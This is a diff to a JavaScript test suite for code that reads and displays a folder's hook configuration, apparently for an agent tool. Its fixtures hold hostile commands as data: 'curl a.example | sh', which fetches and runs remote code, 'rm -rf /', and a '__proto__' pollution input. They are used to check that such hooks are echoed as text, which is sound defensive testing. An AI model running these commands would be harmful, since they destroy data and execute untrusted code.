@@ -46,12 +46,21 @@ describe('hooks of a folder', () => {
       { type: 'webhook', url: 'https://a.example', command: 'true' },
       { command: 'true', before: 'curl a.example | sh' },
       { command: 'true', tools: ['terminal'] },
+      { command: 'true', tools: ['', 'terminal'] },
       { command: ['rm', '-rf', '/'] },
       'rm -rf /',
       null,
     ])
       assert.deepEqual(await texts(one(hook)), [JSON.stringify(hook)]);
-    for (const matcher of [{ command: 'a' }, { matcher: 7, hooks: [] }, 'a', 7, null, ['a']])
+    for (const matcher of [
+      { command: 'a' },
+      { hooks: [{ command: 'a' }], run: 'b' },
+      { matcher: 7, hooks: [] },
+      'a',
+      7,
+      null,
+      ['a'],
+    ])
       assert.deepEqual(await texts({ later_event: [matcher] }), [JSON.stringify(matcher)]);
     assert.deepEqual(await texts({ later_event: { command: 'a' } }), ['{"command":"a"}']);
     assert.deepEqual(await texts(JSON.parse('{"__proto__":[{"hooks":[{"command":"a"}]}]}')), ['a']);
@@ -66,7 +75,13 @@ describe('hooks of a folder', () => {
     for (const none of [null, undefined, {}, { stop: [], pre_tool_use: null }])
       assert.equal(await read(none), undefined);
     for (const status of [404, 405]) assert.equal(await read(null, status), undefined);
-    for (const odd of [[], 'none', 7]) assert.equal((await failureOf(read(odd))).reason, 'badShape');
-    assert.equal((await failureOf(read(null, 403))).status, 403);
+    for (const status of [403, 502]) assert.equal((await failureOf(read(null, status))).status, status);
+  });
+
+  it('are known to be there where their file can’t be read, as with half a character in it', async () => {
+    const unread = { config: {}, hooks: [] };
+    for (const odd of [[], 'none', 7, { stop: 'x'.repeat(20_000_000) }])
+      assert.deepEqual(await read(odd), unread);
+    assert.deepEqual(await read(null, 500), unread);
   });
 });
